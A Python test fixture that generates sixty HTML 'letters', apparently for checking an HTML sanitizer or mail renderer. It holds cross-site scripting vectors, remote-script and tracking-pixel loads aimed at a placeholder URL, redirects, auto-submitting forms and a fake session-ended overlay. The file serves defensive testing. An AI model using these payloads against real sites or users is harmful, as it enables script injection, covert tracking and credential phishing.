"""Sixty letters whose HTML tries to run, load, send, cover or lead away. `URL` is where a server listens for it."""

from collections.abc import Iterator
from typing import Final

_RUNS: Final = (
    "<script>alert(1)</script>",
    "<script src='URL/a.js'></script>",
    "<SCRIPT/XSS SRC='URL/b.js'></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='URL/c.png' onload=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='URL/d.js'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
)
_LOADS: Final = (
    "<img src='URL/1.png'>",
    "<img src='//HOST/2.png'>",
    "<img srcset='URL/3.png 1x'>",
    "<picture><source srcset='URL/4.png'><img></picture>",
    "<input type=image src='URL/5.png'>",
    "<table background='URL/6.png'><tr><td background='URL/7.png'>x</table>",
    "<div style=\"background:url('URL/8.png')\">x</div>",
    "<div style='background-image:\\75rl(URL/9.png)'>x</div>",
    "<div style='list-style:url(URL/10.png)'>x</div>",
    "<div style='content:url(URL/11.png)'>x</div>",
    "<div style='border-image:url(URL/12.png)'>x</div>",
    "<div style='background-color:red;cursor:url(URL/13.png),auto'>x</div>",
    "<div style='color:image-set(\"URL/14.png\" 1x)'>x</div>",
    "<style>@import 'URL/15.css';</style>",
    "<style>@import url(URL/16.css);</style>",
    "<style>@font-face{font-family:a;src:url(URL/17.woff)}*{font-family:a}</style>",
    "<style>a[href^='x']{background:url(URL/18.png)}</style><a href='xyz'>x</a>",
    "<link rel=stylesheet href='URL/19.css'>",
    "<link rel=prefetch href='URL/20'><link rel=dns-prefetch href='URL'>",
    "<video src='URL/21.mp4' poster='URL/22.png' autoplay></video>",
    "<audio src='URL/23.mp3' autoplay></audio>",
    "<embed src='URL/24.swf'>",
    "<object data='URL/25.html'></object>",
    "<iframe src='URL/26.html'></iframe>",
    "<frameset><frame src='URL/27.html'></frameset>",
    "<svg><image href='URL/28.png'/><use href='URL/29.svg#a'/></svg>",
    "<svg><style>*{fill:url(URL/30.svg#a)}</style></svg>",
    "<track src='URL/31.vtt'><source src='URL/32.mp4'>",
)
_LEADS: Final = (
    "<meta http-equiv=refresh content='0;url=URL/40'>",
    "<base href='URL/'><a href=x>x</a><img src=41.png>",
    "<form action='URL/42' method=post><button autofocus>Log in</button></form>",
    "<form id=f></form><button form=f formaction='URL/43'>x</button><input onfocus=this.form.submit() autofocus>",
    "<div style='position:fixed;inset:0;background:white;z-index:9'>Your session has ended</div>",
    "<a href='URL/44' ping='URL/45'>x</a>",
)
COUNT: Final = len(_RUNS) + len(_LOADS) + len(_LEADS)


def letters_at(url: str) -> Iterator[str]:
    """All of them; what each says beside its attack shows that it was shown at all."""
    for number, html in enumerate((*_RUNS, *_LOADS, *_LEADS)):
        yield f"<p>letter {number}</p>" + html.replace("URL", url).replace("HOST", url.partition("//")[2])
